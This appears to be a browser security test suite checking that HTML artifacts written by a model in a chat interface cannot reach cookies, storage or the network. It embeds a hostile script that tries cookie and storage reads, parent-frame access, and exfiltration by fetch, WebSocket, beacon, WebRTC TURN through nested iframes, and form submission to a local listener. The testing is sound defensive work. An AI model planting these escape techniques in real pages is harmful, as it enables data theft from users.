"""HTML that a model wrote, at work in a real browser: what it cannot do (site.md CHAT-18)."""

import json

from playwright.sync_api import Browser

from tests.serving import Served
from tests.web.conftest import OpenPage
from tests.web.ear import Ear
from tests.web.test_rendering import load

EVIL = """
<p id="out">nothing</p>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>
const line = new RTCPeerConnection({ iceServers: [
  { urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'u', credential: 'c' },
] });
line.createDataChannel('x');
line.setLocalDescription();
</script>"></iframe></template></div>
<script>
const tried = {};
const attempt = async (name, act) => {
  try { tried[name] = String(await act()); } catch (error) { tried[name] = "refused"; }
};
const socket = (address) => new Promise((done, fail) => {
  const opened = new WebSocket(address);
  opened.onopen = () => done("opened");
  opened.onerror = fail;
});
const image = (address) => new Promise((done, fail) => {
  const shown = new Image();
  shown.onload = () => done("loaded");
  shown.onerror = fail;
  shown.src = address;
});
const script = (address) => new Promise((done, fail) => {
  const element = document.createElement("script");
  element.onload = () => done("loaded");
  element.onerror = fail;
  element.src = address;
  document.head.append(element);
});
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("database", () => new Promise((done, fail) => {
    const opening = indexedDB.open("x");
    opening.onsuccess = () => done("opened");
    opening.onerror = fail;
  }));
  await attempt("parent", () => parent.document.title);
  await attempt("address", () => parent.location.href);
  await attempt("fetch", async () => (await fetch("SITE/models")).status);
  await attempt("foreign", async () => (await fetch("http://127.0.0.1:PORT/fetch", { mode: "no-cors" })).type);
  await attempt("image", () => image("http://127.0.0.1:PORT/image"));
  await attempt("script", () => script("http://127.0.0.1:PORT/script"));
  await attempt("socket", () => socket("ws://127.0.0.1:PORT/socket"));
  await attempt("beacon", () => navigator.sendBeacon("http://127.0.0.1:PORT/beacon", "x") ? "sent" : "refused");
  await attempt("popup", () => String(window.open("http://127.0.0.1:PORT/popup")));
  await attempt("top", () => { top.location = "http://127.0.0.1:PORT/top"; return "asked"; });
  for (const [rel, as] of [["stylesheet", ""], ["prefetch", ""], ["preload", "image"], ["modulepreload", ""],
      ["preconnect", ""], ["dns-prefetch", ""]]) {
    const link = document.createElement("link");
    Object.assign(link, { rel, as, href: `http://127.0.0.1:PORT/${rel}` });
    document.head.append(link);
  }
  const call = async () => {
    const line = new RTCPeerConnection({ iceServers: [
      { urls: "turn:127.0.0.1:PORT?transport=tcp", username: "u", credential: "c" },
    ] });
    line.createDataChannel("x");
    await line.setLocalDescription();
  };
  await attempt("call", call);
  const inside = (parent) => {
    const inner = document.createElement("iframe");
    inner.srcdoc = `<script>(${call})()<` + `/script>`;
    parent.append(inner);
    return inner;
  };
  const blank = inside(document.body).contentWindow;
  await attempt("call from within", () => new (blank.RTCPeerConnection)());
  await attempt("shadow", () => inside(document.createElement("div").attachShadow({ mode: "open" })));
  Element.prototype.remove = () => {};
  inside(document.body);
  const written = document.createElement("div");
  written.innerHTML = `<iframe srcdoc="<script>(${call})()<` + `/script>"></iframe>`;
  document.body.append(written);
  await new Promise((done) => setTimeout(done, 1500));
  const form = document.createElement("form");
  form.action = "http://127.0.0.1:PORT/form";
  document.body.append(form);
  await attempt("form", () => { form.submit(); return "asked"; });
  document.getElementById("out").textContent = JSON.stringify(tried);
})();
</script>
"""


def test_an_artifact_reaches_neither_cookies_nor_the_network(browser: Browser, site: Served) -> None:
    with Ear() as ear, browser.new_context(base_url=site.url) as context:
        page = context.new_page()
        page.goto("/design")
        load(page)
        page.context.add_cookies([{"name": "mine", "value": "1", "url": site.url}])
        source = EVIL.replace("PORT", str(ear.port)).replace("SITE", site.url)
        page.evaluate(
            """(source) => {
              render.renderMarkdown(target, "```html\\n" + source + "\\n```", {
                onArtifact: (artifact) => {
                  const stage = document.createElement("div");
                  stage.id = "stage";
                  target.after(stage);
                  render.showArtifact(stage, artifact, "Evil");
                },
              });
            }""",
            source,
        )
        page.locator("main > .answer").first.get_by_role("button", name="Run").click()
        out = page.frame_locator("#stage iframe").locator("#out")
        out.filter(has_text="{").wait_for()
        tried: dict[str, str] = json.loads(out.inner_text())
        for name in ("cookie", "storage", "database", "parent", "address", "fetch", "foreign", "image", "script"):
            assert tried.pop(name) == "refused", name
        for name in ("socket", "call", "call from within", "shadow"):
            assert tried.pop(name) == "refused", name
        assert tried.pop("popup") in ("null", "refused")
        page.wait_for_timeout(500)
        page.frame_locator("#stage iframe").locator("body").evaluate(
            "(_, address) => { location.href = address }", f"http://127.0.0.1:{ear.port}/away"
        )
        page.wait_for_timeout(1000)
        assert ear.heard == []
        assert page.url == f"{site.url}/design"


def test_an_artifact_s_page_is_a_stranger_even_when_it_is_opened_alone(open_page: OpenPage, site: Served) -> None:
    page = open_page("/chat/artifact", expects_error=True)
    assert page.evaluate("origin") == "null"
    refused = page.evaluate("(() => { try { return document.cookie } catch { return 'refused' } })()")
    assert refused == "refused"
